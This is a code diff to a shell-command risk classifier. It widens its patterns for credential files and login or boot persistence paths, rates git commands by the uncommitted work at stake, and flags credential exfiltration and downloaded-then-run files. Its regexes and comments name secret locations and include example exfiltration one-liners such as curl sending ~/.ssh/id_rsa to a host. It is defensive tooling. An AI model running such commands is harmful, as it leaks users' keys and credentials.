@@ -20,6 +20,7 @@ workspace or a temp folder. Levels:
 
 from __future__ import annotations
 
+import os
 import posixpath
 import re
 
@@ -56,6 +57,10 @@ CREDENTIAL_PATH = _LazyRe(
     r"[\w.-]*\.(?:kdbx|keychain(?:-db)?)|shadow|gshadow|sudoers|\.config/gh/hosts\.yml|"
     r"Login Data|Cookies|key4\.db|logins\.json|\.password-store(?:/|$)|"
     r"\.\w*sh_history|\.history|\.mysql_history|\.psql_history|"
+    r"master\.passwd|opasswd|[\w.-]*\.keytab|krb5cc_[\w.-]*|secrets\.tdb|passdb\.tdb|"
+    r"(?:var|lib)/sss/(?:db|secrets)(?:/[^/]*)?|dslocal/nodes/[^/]+/users(?:/[^/]*)?|db/shadow(?:/[^/]*)?|"
+    r"\.local/share/keyrings(?:/[^/]*)?|keyrings/[^/]+\.keyring|NetworkManager/system-connections(?:/[^/]*)?|"
+    r"\.mozilla/firefox/[^/]+/(?:key[34]\.db|logins\.json|cookies\.sqlite)|ssl/private(?:/[^/]*)?|"
     r"\.(?:ssh|aws|gnupg|kube|docker)/?)(?:$|[?#])"
 )
 # Key and secret files a project keeps (test certificates, a server.key): asked outside it.
@@ -100,8 +105,12 @@ _HARMLESS_DEV = (
 )
 _BLOCK_DEVICE = _LazyRe(r"^/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|md|dm-|mapper/|loop|sr)")
 _STARTUP = _LazyRe(
-    r"(?:^|/)\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zshenv|zprofile|"
-    r"zlogin|bash_logout|config/fish/config\.fish)$"
+    r"(?:^|/)\.(?:bashrc|bash_profile|bash_login|bash_aliases|profile|zshrc|zshenv|zprofile|"
+    r"zlogin|zlogout|bash_logout|kshrc|mkshrc|cshrc|tcshrc|login|logout|xonshrc|yashrc|"
+    r"config/fish/config\.fish|config/nushell/(?:config|env)\.nu|"
+    r"config/powershell/[\w.]*profile\.ps1)$"
+    r"|^/(?:private/)?etc/(?:profile|bashrc|bash\.bashrc|zshrc|zshenv|zprofile|zlogin|zsh/\w+|csh\.(?:cshrc|login)|"
+    r"ksh\.kshrc|environment|profile\.d/[^/]+|fish/config\.fish)$"
 )
 # Start-up entries a user account runs at login or boot (system ones are system paths).
 _STARTUP_ENTRY = _LazyRe(
@@ -110,7 +119,13 @@ _STARTUP_ENTRY = _LazyRe(
     r"loginwindow|\.local/share/systemd/|\.xinitrc$|\.xprofile$|"
     r"\.config/fish/conf\.d/|Library/Application Support/com\.apple\."
     r"backgroundtaskmanagementagent|sitecustomize\.py$|usercustomize\.py$|"
-    r"site-packages/[^/]+\.pth$|ld\.so\.preload$)"
+    r"site-packages/[^/]+\.pth$|ld\.so\.preload$|"
+    r"Library/StartupItems/|Library/Security/SecurityAgentPlugins/|Library/(?:Audio/Plug-Ins|QuickLook|"
+    r"Spotlight|Extensions|Screen Savers|Workflows|Scripts/Folder Action Scripts)/|"
+    r"Library/Preferences/com\.apple\.(?:loginitems|dock|loginwindow)[\w.]*\.plist$|"
+    r"(?:^|/)etc/(?:periodic/|emond\.d/|launchd\.conf$|rc\.common$|rc\.local$|xdg/autostart/|"
+    r"update-motd\.d/|cron[\w.]*(?:/|$)|anacrontab$|systemd/system/|init\.d/)|var/db/emondClients/|"
+    r"var/spool/cron/|\.config/upstart/|\.kde4?/Autostart/|\.config/plasma-workspace/env/)"
 )
 _PRELOAD = _LazyRe(
     r"^(?:LD_PRELOAD|DYLD_INSERT_LIBRARIES|LD_AUDIT|PYTHONSTARTUP|"
@@ -226,6 +241,8 @@ def _path_class(value: str, cwd: str | None, workspace: str | None) -> str:
             if _BLOCK_DEVICE.match(path)
             else ("harmless" if path.startswith(_HARMLESS_DEV) else "system")
         )
+    if base in (home, "/home", "/Users", "/root"):
+        return "home"  # also when the workspace contains it (cwd /home, HOME=/home/me)
     ws = posixpath.normpath(workspace) if workspace else None
     if ws and ws != "/":
         if base == ws:
@@ -377,30 +394,117 @@ def _rm(cmd: Cmd, ws: str | None) -> list[Finding]:
     return out
 
 
-def _git(cmd: Cmd, ws: str | None) -> list[Finding]:
+_STATE_CACHE: dict[tuple[str, bool], tuple[float, dict[str, int] | None]] = {}
+
+
+def git_state(cwd: str | None, ignored: bool = False) -> dict[str, int] | None:
+    """What uncommitted work a repository holds: counts of changed tracked files, untracked
+    (and, with ``ignored``, ignored) files, and stashes. None when it cannot be read within
+    ~0.3 s (no repository, no git, a huge tree). Runs ``git status`` with no optional locks
+    and no fsmonitor program; cached for 2 s per folder."""
+    import subprocess
+    import time
+
+    if not cwd or not posixpath.isabs(cwd):
+        return None
+    key = (cwd, ignored)
+    hit = _STATE_CACHE.get(key)
+    now = time.monotonic()
+    if hit is not None and now - hit[0] < 2.0:
+        return hit[1]
+    argv = ["git", "-C", cwd, "-c", "core.fsmonitor=false", "status", "--porcelain=v2", "--show-stash", "-z"]
+    if ignored:
+        argv.append("--ignored=traditional")
+    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
+    env["GIT_OPTIONAL_LOCKS"] = "0"
+    state: dict[str, int] | None
+    try:
+        done = subprocess.run(argv, capture_output=True, timeout=0.3, env=env, stdin=subprocess.DEVNULL)
+        if done.returncode != 0:
+            state = None
+        else:
+            state = {"tracked": 0, "untracked": 0, "ignored": 0, "stashes": 0}
+            for entry in done.stdout.decode("utf-8", "replace").split("\0"):
+                if entry.startswith(("1 ", "2 ", "u ")):
+                    state["tracked"] += 1
+                elif entry.startswith("? "):
+                    state["untracked"] += 1
+                elif entry.startswith("! "):
+                    state["ignored"] += 1
+                elif entry.startswith("# stash "):
+                    state["stashes"] = int(entry.split()[-1])
+    except (OSError, subprocess.SubprocessError, ValueError):
+        state = None
+    if len(_STATE_CACHE) > 64:
+        _STATE_CACHE.clear()
+    _STATE_CACHE[key] = (now, state)
+    return state
+
+
+def _at_stake(what: str, count: int | None, action: str, known_level: str = "high") -> list[Finding]:
+    """A command that throws away uncommitted work: critical when the repository shows
+    some, nothing when it shows none, ``known_level`` when it cannot be read."""
+    if count is None:
+        return [(known_level, f"{action} (the repository's state could not be read)")]
+    if count:
+        return [("critical", f"{action}: {count} {what} would be lost for good")]
+    return []
+
+
+def _shred(cmd: Cmd, ws: str | None) -> list[Finding]:
+    """shred/srm/wipe: overwrites contents with no way back; a key or a folder outside the
+    workspace is lost for good."""
+    operands = [w for w in cmd.argv[1:] if not w.value.startswith("-")]
+    for cls, value in _targets(cmd, operands, cmd.cwd, ws):
+        if secret_path(value) or cls in ("root", "home", "system", "device", "workspace", "git"):
+            return [("critical", f"{cmd.prog} destroys {'a credential' if secret_path(value) else _CLASS_NAME[cls]} for good ({value})")]
+    return [("high", f"{cmd.prog} destroys file contents")]
+
+
+def _git(cmd: Cmd, ws: str | None, stashed: bool = False) -> list[Finding]:
     args = cmd.args
     i = 0
+    where = cmd.cwd
     while i < len(args) and args[i].startswith("-"):
+        if args[i] == "-C" and i + 1 < len(args):
+            where = posixpath.normpath(posixpath.join(where or "", args[i + 1])) if (where or args[i + 1].startswith("/")) else None
+        elif args[i] in ("--git-dir", "--work-tree") or args[i].startswith(("--git-dir=", "--work-tree=")):
+            where = None  # another repository than the folder's
         i += 2 if args[i] in ("-C", "-c", "--git-dir", "--work-tree", "--namespace") else 1
     if i >= len(args):
         return []
+    if any(a.startswith(("GIT_DIR=", "GIT_WORK_TREE=")) for a in cmd.assigns):
+        where = None
     sub, rest = args[i], args[i + 1 :]
     flags = set(rest)
     paths = rest[rest.index("--") + 1 :] if "--" in rest else []
     roots = {".", "*", ":/", "./", ":/*", ws or ".", cmd.cwd or "."}
     whole = lambda ps: any(p.rstrip("/") in roots or p in roots for p in ps)  # noqa: E731
+    state: dict[str, int] | None | bool = False  # read on first need
+
+    def count(kind: str, ignored: bool = False) -> int | None:
+        nonlocal state
+        if state is False or ignored:
+            state = git_state(where, ignored)
+        if state is None or state is False:
+            return None
+        return sum(state[k] for k in kind.split("+"))
+
     if sub == "reset" and "--hard" in flags:
-        return [("critical", "git reset --hard discards uncommitted changes")]
+        found = _at_stake("changed files", count("tracked"), "git reset --hard discards uncommitted changes", "critical")
+        return found or [("medium", "git reset --hard (nothing uncommitted to lose now)")]
     if sub == "checkout":
         if whole(paths) or (not paths and whole(rest)):
-            return [("critical", "git checkout of the whole tree discards uncommitted changes")]
+            return _at_stake(
+                "changed files", count("tracked"), "git checkout of the whole tree discards uncommitted changes", "critical"
+            )
         if "-f" in flags or "--force" in flags:
-            return [("high", "git checkout --force discards uncommitted changes")]
+            return _at_stake("changed files", count("tracked"), "git checkout --force discards uncommitted changes")
         if paths:
             return [("medium", "git checkout -- reverts uncommitted changes to " + ", ".join(paths))]
         return []
     if sub == "switch" and ({"-f", "--force", "--discard-changes"} & flags):
-        return [("high", "git switch --discard-changes drops uncommitted changes")]
+        return _at_stake("changed files", count("tracked"), "git switch --discard-changes drops uncommitted changes")
     if sub == "rm" and "--cached" not in flags and whole([a for a in rest if not a.startswith("-")]):
         return [("critical", "git rm of the whole tree deletes the working files")]
     if sub == "read-tree" and "--reset" in flags and "-u" in flags:
@@ -410,17 +514,23 @@ def _git(cmd: Cmd, ws: str | None) -> list[Finding]:
             return []
         targets = [a for a in rest if not a.startswith("-")]
         if whole(targets):
-            return [("critical", "git restore of the whole tree discards uncommitted changes")]
+            return _at_stake(
+                "changed files", count("tracked"), "git restore of the whole tree discards uncommitted changes", "critical"
+            )
         return [("medium", "git restore reverts uncommitted changes to " + ", ".join(targets))]
     if sub == "clean":
         short = {c for a in rest if a.startswith("-") and not a.startswith("--") for c in a[1:]}
         if ("f" in short or "--force" in flags) and "n" not in short and "--dry-run" not in flags:
-            return [("high", "git clean deletes untracked files")]
+            ignored = "x" in short or "X" in short
+            kinds = "untracked+ignored" if ignored else "untracked"
+            return _at_stake("untracked files" + (" or ignored files" if ignored else ""), count(kinds, ignored), "git clean deletes untracked files")
         return []
-    if sub == "stash" and rest[:1] == ["clear"]:
-        return [("high", "git stash clear drops every stash")]
-    if sub == "stash" and rest[:1] == ["drop"]:
-        return [("medium", "git stash drop drops a stash")]
+    if sub == "stash" and rest[:1] in (["clear"], ["drop"]):
+        n = count("stashes")
+        if stashed and n is not None:
+            n += count("tracked+untracked") or 0  # stashed earlier in this line, then dropped
+        what = "every stash" if rest[:1] == ["clear"] else "a stash"
+        return _at_stake("stashed changes", n, f"git stash {rest[0]} drops {what}")
     if sub == "push":
         lease = any(a.startswith(("--force-with-lease", "--force-if-includes")) for a in rest)
         force = not lease and (
@@ -521,8 +631,9 @@ def _remote_copy(cmd: Cmd) -> list[Finding]:
             return [("medium", f"copies files from a remote host ({operands[0].value})")]
         return []
     for w in operands[:-1]:
-        if CREDENTIAL_PATH.search(w.value.rstrip("/")):
-            return [("critical", f"copies credentials to a remote host ({w.value})")]
+        hit = next((p for p in word_paths(w) if secret_path(p)), None)
+        if hit:
+            return [("critical", f"copies credentials to a remote host ({hit})")]
     return [("medium", f"copies files to a remote host ({operands[-1].value})")]
 
 
@@ -903,6 +1014,8 @@ _PATTERN_FIRST = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "sed", 
 
 def _read_paths(cmd: Cmd) -> list[str]:
     """The paths a command reads (not the ones it only writes, lists or searches for)."""
+    if cmd.prog == "ssh":  # ssh host < ~/.ssh/id_rsa sends the file
+        return [w.value for op, w in cmd.redirects if op == "<" and w.static]
     if cmd.prog in _NOT_READERS:
         return []
     words = [w for w in cmd.argv[1:] if w.static]
@@ -912,11 +1025,54 @@ def _read_paths(cmd: Cmd) -> list[str]:
     if cmd.prog in ("cp", "mv", "install", "tee", "dd"):  # the destination is written
         operands = [w for w in words if not w.value.startswith("-")]
         words = [w for w in words if w is not (operands[-1] if operands else None)]
-    out = [w.value for w in words]
+    if cmd.prog == "dd":
+        words = [Word(w.value[3:]) for w in words if w.value.startswith("if=")]
+    out = [p for w in words for p in word_paths(w)]
     out += [w.value for op, w in cmd.redirects if op in ("<", "<<<") and w.static]
     if cmd.prog in NETWORK:
         out = [v.lstrip("@").split("=", 1)[-1].lstrip("@") for v in out]
     return [v.split("=", 1)[1] if v.startswith("-") and "=" in v else v for v in out]
+
+
+def word_paths(w: Word) -> list[str]:
+    """The paths a word stands for: find's ``{}`` is every file it selects under its start
+    paths (``~/.ssh/id_*``), any other word its value."""
+    if not w.found_under:
+        return [w.value]
+    if w.selects:
+        return [s.rstrip("/") + "/" + posixpath.basename(n) for s in w.found_under for n in w.selects]
+    return list(w.found_under)
+
+
+def secret_path(path: str) -> bool:
+    """A credential file, a credential folder, or a glob of files in one (``~/.ssh/id_*``)."""
+    path = path.rstrip("/")
+    if CREDENTIAL_PATH.search(path):
+        return True
+    if any(ch in path for ch in "*?["):
+        return bool(CREDENTIAL_PATH.search(posixpath.dirname(path)) or _CRED_NAME.search(posixpath.basename(path)))
+    return False
+
+
+_CRED_IN_CODE = _LazyRe(
+    r"\.ssh/(?:id_|authorized_keys)|\.aws/credentials|\.netrc\b|\.pgpass|\.git-credentials|\.gnupg|"
+    r"\.kube/config|\.docker/config\.json|/etc/shadow|\.config/gcloud|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|"
+    r"\.vault-token|key4\.db|logins\.json|Login Data|\.password-store|\.config/gh/hosts"
+)
+_NET_IN_CODE = _LazyRe(
+    r"https?://|['\"]https?['\"]|\burllib|\brequests\.|\bhttp\.client|\bsocket\b|\bfetch\(|XMLHttpRequest|"
+    r"net/http|Net::HTTP|LWP::|HTTP::Tiny|IO::Socket|\bsmtplib|\bftplib|\bparamiko|"
+    r"require\(\s*['\"](?:https?|net|dgram|tls|axios|node-fetch)['\"]\s*\)|TCPSocket|\bcurl\b|\bwget\b"
+)
+
+
+def _code_secrets(code: str, lang: str) -> list[Finding]:
+    """A one-liner that names a credential file, and sends it when it also talks to the network."""
+    if not _CRED_IN_CODE.search(code):
+        return []
+    if _NET_IN_CODE.search(code):
+        return [("critical", f"sends credentials over the network ({lang} code reads {_CRED_IN_CODE.search(code).group(0)})")]
+    return [("high", f"reads credentials or keys ({lang} code: {_CRED_IN_CODE.search(code).group(0)})")]
 
 
 def _credentials(cmd: Cmd, sink_network: bool, ws: str | None) -> list[Finding]:
@@ -925,6 +1081,9 @@ def _credentials(cmd: Cmd, sink_network: bool, ws: str | None) -> list[Finding]:
     if cmd.prog in NETWORK:
         if any(_METADATA.search(w.value) for w in cmd.argv[1:]):
             return [("high", "reads credentials or keys (a cloud metadata endpoint)")]
+        for w in cmd.argv[1:]:  # find ~/.ssh -exec curl -F f=@{} ...: every key file found
+            if w.found_under and any(secret_path(p) for p in word_paths(w)):
+                return [("critical", f"sends credentials over the network ({word_paths(w)[0]})")]
         for w in cmd.argv[1:]:  # curl http://x/$(cat ~/.ssh/id_rsa), -d "$API_TOKEN"
             if not w.static and (
                 _SECRET_VAR.search(w.value)
@@ -938,7 +1097,7 @@ def _credentials(cmd: Cmd, sink_network: bool, ws: str | None) -> list[Finding]:
     ):
         return [("high", "reads credentials or keys (gh auth token)")]
     paths = _read_paths(cmd)
-    strong = [v for v in paths if CREDENTIAL_PATH.search(v)]
+    strong = [v for v in paths if secret_path(v)]
     weak = [
         v
         for v in paths
@@ -949,7 +1108,7 @@ def _credentials(cmd: Cmd, sink_network: bool, ws: str | None) -> list[Finding]:
         return [("critical", f"sends credentials over the network ({(hits or [cmd.prog])[0]})")]
     if not hits:
         return []
-    if cmd.prog in NETWORK:
+    if cmd.prog in NETWORK or (cmd.prog == "ssh" and strong):
         return [("critical", f"sends credentials over the network ({hits[0]})")]
     return [("high", f"reads credentials or keys ({hits[0]})")]
 
@@ -1207,6 +1366,9 @@ def _inline_code(cmd: Cmd, lang: str) -> str | None:
         v = args[i].value
         if v in flags or (letters and re.match(r"^-[a-zA-Z]*[" + letters + r"]$", v)):
             return args[i + 1].value if i + 1 < len(args) else None
+        if any(v.startswith(o) and len(v) > len(o) for o in _OPTS_WITH_ARG.get(lang, ()) if len(o) == 2):
+            i += 1  # -MFile::Path, -rfileutils: an option with its value glued on
+            continue
         glued = re.match(r"^-[a-zA-Z]*[" + letters + r"](.+)$", v) if letters else None
         if glued and not v.startswith("--"):
             return glued.group(1)
@@ -1231,18 +1393,26 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
     ``again(text)``: the findings of a nested command line (a string a program will run).
     """
     out: list[Finding] = []
-    sinks = {c.line for c in parsed.commands if c.prog in NETWORK and c.stdin is not None}
+    stashed = False
+    sinks = {c.line for c in parsed.commands if (c.prog in NETWORK or c.prog == "ssh") and c.stdin is not None}
     interactive = {c.line for c in parsed.commands if c.prog in SHELLS and (not c.args or "-i" in c.args)}
+    downloaded: dict[str, str] = {}
     for cmd in parsed.commands:
         prog = cmd.prog
         if not cmd.argv:
             continue
+        ran = _runs_file(cmd)
+        if ran and _place(ran, cmd.cwd) in downloaded:
+            out.append(("critical", f"runs a file downloaded in the same command ({ran} from {downloaded[_place(ran, cmd.cwd)]})"))
+        if prog in NETWORK:
+            for path, url in _downloads(cmd):
+                downloaded[_place(path, cmd.cwd)] = url
         if prog == "<dynamic code>":
             kinds = cmd.argv[0].sources
             if "network" in kinds:
                 out.append(("critical", "runs code downloaded from the network"))
             elif "decoded" in kinds:
-                out.append(("high", "decodes and executes a payload"))
+                out.append(("critical", "decodes and executes a payload"))
             else:  # eval "$(pyenv init -)" and the like: reported, not asked
                 out.append(("medium", f"runs code known only at run time ({cmd.wrappers[-1]})"))
             continue
@@ -1271,9 +1441,12 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
         elif prog == "mv":
             out.extend(_moves(cmd, workspace))
         elif prog in ("shred", "srm", "wipe"):
-            out.append(("high", f"{prog} destroys file contents"))
+            out.extend(_shred(cmd, workspace))
         elif prog == "git":
-            out.extend(_git(cmd, workspace))
+            out.extend(_git(cmd, workspace, stashed))
+            stashed = stashed or (
+                "stash" in cmd.args and not {"list", "show", "clear", "drop", "pop", "apply"} & set(cmd.args)
+            )
         elif prog in ("chmod", "chown", "chgrp"):
             out.extend(_perms(cmd, workspace))
         elif prog.split(".")[0] in _DISK_TOOLS or (
@@ -1303,8 +1476,8 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
             out.append(
                 {
                     "network": ("critical", "pipes code from the network into a shell"),
-                    "decoded": ("high", "decodes a payload and pipes it into a shell"),
-                    "dynamic": ("high", "pipes generated text into a shell"),
+                    "decoded": ("critical", "decodes a payload and pipes it into a shell"),
+                    "dynamic": ("critical", "pipes generated text into a shell"),
                 }[cmd.stdin]
             )
         elif (
@@ -1359,15 +1532,14 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
                 and cmd.stdin in ("network", "decoded", "dynamic")
                 and not [a for a in cmd.args if not a.startswith("-") or a.startswith("-m")]
             ):
-                out.append(
-                    ("critical" if cmd.stdin == "network" else "high", f"pipes {cmd.stdin} code into {prog}")
-                )
+                out.append(("critical", f"pipes {cmd.stdin} code into {prog}"))
             elif code:
                 out.extend(
                     _python(code, cmd, workspace, again)
                     if lang == "python"
                     else _script(code, cmd, workspace, again)
                 )
+                out.extend(_code_secrets(code, lang))
         if prog == "trap" and "DEBUG" in cmd.args[1:]:
             out.append(("high", "runs a command before every command (trap DEBUG)"))
         elif "trap" in cmd.wrappers and (
@@ -1385,6 +1557,8 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
             out.extend(install_findings(cmd))
         if as_root:
             out.append(("medium", "runs as root"))
+        if "systemd-run" in cmd.wrappers:
+            out.append(("high", f"runs {prog} as a transient system service or timer (systemd-run)"))
         if prog not in SHELLS and any(op in (">", ">>", "&>") for op in sockets):
             out.append(("high", "writes to a network socket (/dev/tcp)"))
     reasons = " ".join(f[1] for f in out)
@@ -1412,3 +1586,46 @@ def tool_path_risk(tool: str, path: str, cwd: str | None) -> list[Finding]:
     if cls in ("system", "root"):
         return [("high", f"writes a system path ({path})")]
     return []
+
+
+def _place(path: str, cwd: str | None) -> str:
+    return posixpath.normpath(posixpath.join(cwd or "", path))
+
+
+def _downloads(cmd: Cmd) -> list[tuple[str, str]]:
+    """Files a curl/wget writes: ``-o FILE``, ``-O`` (the URL's name), ``> FILE``."""
+    args = cmd.args
+    urls = [a for a in args if re.match(r"^(?:https?|ftp)://", a)]
+    url = urls[0] if urls else "the network"
+    name = posixpath.basename(url.split("?", 1)[0]) if urls else ""
+    out: list[tuple[str, str]] = []
+    for i, a in enumerate(args):
+        nxt = args[i + 1] if i + 1 < len(args) else ""
+        if cmd.prog == "curl":
+            if a in ("-o", "--output") or (re.match(r"^-[a-zA-Z]*o$", a) and not a.startswith("--")):
+                out.append((nxt, url))
+            elif a.startswith("--output="):
+                out.append((a.split("=", 1)[1], url))
+            elif (a in ("-O", "--remote-name") or re.match(r"^-[a-zA-Z]*O[a-zA-Z]*$", a)) and name:
+                out.append((name, url))
+        elif cmd.prog == "wget":
+            if a in ("-O", "--output-document") or re.match(r"^-[a-zA-Z]*O$", a):
+                out.append((nxt, url))
+            elif a.startswith("--output-document="):
+                out.append((a.split("=", 1)[1], url))
+    if cmd.prog == "wget" and not out and name:
+        out.append((name, url))
+    out += [(w.value, url) for op, w in cmd.redirects if op in (">", ">>", "&>") and w.static]
+    return [(p, u) for p, u in out if p and p != "-"]
+
+
+def _runs_file(cmd: Cmd) -> str | None:
+    """The file a command executes: its program path, or the script a shell or interpreter runs."""
+    if not cmd.argv or not cmd.argv[0].static:
+        return None
+    prog = cmd.prog
+    if prog in SHELLS or prog in ("source", ".") or prog in INTERPRETERS:
+        script = next((w for w in cmd.argv[1:] if not w.value.startswith("-")), None)
+        return script.value if script is not None and script.static else None
+    first = cmd.argv[0].value
+    return first if "/" in first else None
